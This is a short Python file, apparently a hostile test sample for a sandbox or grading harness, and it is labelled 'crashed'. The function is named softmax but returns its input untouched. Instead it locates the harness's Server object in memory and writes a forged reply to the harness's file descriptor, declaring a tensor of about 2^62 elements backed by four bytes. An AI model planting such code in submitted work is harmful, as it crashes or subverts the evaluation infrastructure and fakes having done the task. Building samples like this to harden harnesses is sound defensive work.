"""Sends a tensor that is announced to be larger than its bytes."""
# verdict: crashed
import gc
import os


def softmax(x, dim=-1):
    server = next(o for o in gc.get_objects() if type(o).__name__ == "Server")
    tensor = b'{"T": ["float32", [4611686018427387904]]}'
    reply = b'{"id": %d, "do": "reply", "value": %s}' % (server._request[-1], tensor)
    blob = bytes(4)
    os.write(3, len(reply).to_bytes(8, "little") + len(blob).to_bytes(8, "little") + reply + blob)
    return x
